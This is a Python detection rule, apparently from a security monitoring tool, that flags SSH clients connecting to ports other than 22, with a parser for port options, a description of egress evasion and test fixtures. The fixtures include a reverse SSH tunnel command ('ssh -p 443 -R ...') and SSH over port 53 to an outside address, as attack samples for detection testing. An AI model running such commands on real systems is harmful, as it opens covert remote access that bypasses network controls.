"""An SSH client connecting to a port other than 22: SSH over 443, 80 or 53 gets out through firewalls, and a
reverse shell over SSH looks like any other TLS connection."""

from typing import Any

from vigil.detections.sdk import EventDetection, Example, container_label
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.fixtures import EXAMPLE_START_NS, in_pod
from vigil.sources.tetragon.fixtures import tetragon_record

SSH_CLIENTS = frozenset({"ssh", "scp", "sftp", "sshpass", "autossh", "dbclient", "plink"})
SSH_PORT = 22
#: Peers that are the machine itself (a local port forward or a test) are not leaving anywhere.
LOCAL_CLASSES = frozenset({"loopback", "unspecified"})


def port_option(args: list[str]) -> int:
    """The port an ssh command line names (``-p 443``, ``-p443``, ``-P`` for scp/sftp, ``ssh://h:443``), 0 for none."""
    for index, arg in enumerate(args[1:], start=1):
        value = ""
        if arg in ("-p", "-P"):
            value = args[index + 1] if index + 1 < len(args) else ""
        elif arg.startswith(("-p", "-P")) and arg[2:].isdigit():
            value = arg[2:]
        elif arg.startswith("ssh://") and ":" in arg[6:]:
            value = arg.rpartition(":")[2].split("/")[0]
        if value.isdigit():
            return int(value)
    return 0


def ssh_port(event: Event) -> int:
    """The non-standard port an SSH client connects or is told to connect to (0: standard, or not SSH)."""
    if program_name(event) not in SSH_CLIENTS:
        return 0
    if event.kind == "net.connect":
        if event.network.remote_class in LOCAL_CLASSES or event.network.protocol not in ("tcp", ""):
            return 0
        port = event.network.remote_port or event.target.port
    else:
        port = port_option(event.actor.args)
    return port if port and port != SSH_PORT else 0


def ssh_context(event: Event) -> dict[str, Any]:
    peer = event.network.remote_address or event.target.address
    in_container = bool(event.container.id or event.k8s.container_id)
    return {"exe": event.actor.exe, "client": program_name(event), "port": ssh_port(event), "peer": peer,
            "command": " ".join(event.actor.args), "node": event.node,
            "where": container_label(event) if in_container else f"node {event.node}"}


DETECTION = EventDetection(
    id="runtime.ssh_nonstandard_port",
    title="SSH connection to a non-standard port",
    alert_title="{client} to port {port} from {where}",
    description=(
        "An SSH client (ssh, scp, sftp, sshpass, autossh, dropbear's dbclient) connected, or was told to connect, "
        "to a port other than 22, from a container or a node. Attackers run SSH over 443, 80, 53 or 8080 to pass "
        "egress filters, and a command-injected `ssh -R` to their own server over such a port is a reverse shell "
        "that looks like ordinary encrypted traffic."
    ),
    severity="medium",
    mitre=["T1571", "T1021.004", "T1572"],
    tags=["runtime", "command_and_control", "lateral_movement", "network"],
    references=["https://attack.mitre.org/techniques/T1571/"],
    false_positives=["Git hosts or bastions that serve SSH on another port (e.g. GitHub's ssh.github.com:443)."],
    kinds=["net.connect", "process.exec"],
    exe_names=SSH_CLIENTS,
    match=lambda event: bool(ssh_port(event)),
    context=ssh_context,
    dedup="{cluster}/{node}/{namespace}/{pod}/{client}/{port}",
    examples=[
        Example(
            name="ssh -R over port 443 (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(binary="/usr/bin/ssh", arguments="-p 443 -R 2222:localhost:22 x@45.33.32.156",
                                   parent="/bin/sh"),
        ),
        Example(
            name="Falco: ssh connecting to port 53",
            source="falco",
            fires=True,
            record=falco_record(
                "Disallowed SSH Connection Non Standard Port", "connect",
                {"proc.exepath": "/usr/bin/ssh", "proc.name": "ssh", "proc.cmdline": "ssh -p53 x@45.33.32.156",
                 "fd.rip": "45.33.32.156", "fd.rport": 53, "fd.lip": "10.244.1.7", "fd.lport": 40552,
                 "fd.l4proto": "tcp", "fd.type": "ipv4"},
                priority="Notice",
            ),
        ),
        Example(
            name="the eBPF sensor's connect by ssh to port 8080",
            source="ebpf",
            fires=True,
            record=in_pod({"type": "connect", "time_ns": EXAMPLE_START_NS, "pid": 4420, "tid": 4420, "ppid": 4400,
                           "uid": 0, "gid": 0, "comm": "ssh", "cgroup_id": 7301, "family": "inet", "protocol": "tcp",
                           "local_address": "10.244.1.9", "local_port": 40210, "remote_address": "45.33.32.156",
                           "remote_port": 8080, "fd": 3}),
        ),
        Example(
            name="ssh to port 22",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/usr/bin/ssh", arguments="-p 22 git@10.0.0.4"),
        ),
        Example(
            name="a web client connecting to 443",
            source="tetragon",
            fires=False,
            record=tetragon_record("process_connect", binary="/usr/bin/curl",
                                   body={"source_ip": "10.244.1.7", "source_port": 40118,
                                         "destination_ip": "45.33.32.156", "destination_port": 443,
                                         "protocol": "TCP"}),
        ),
    ],
)
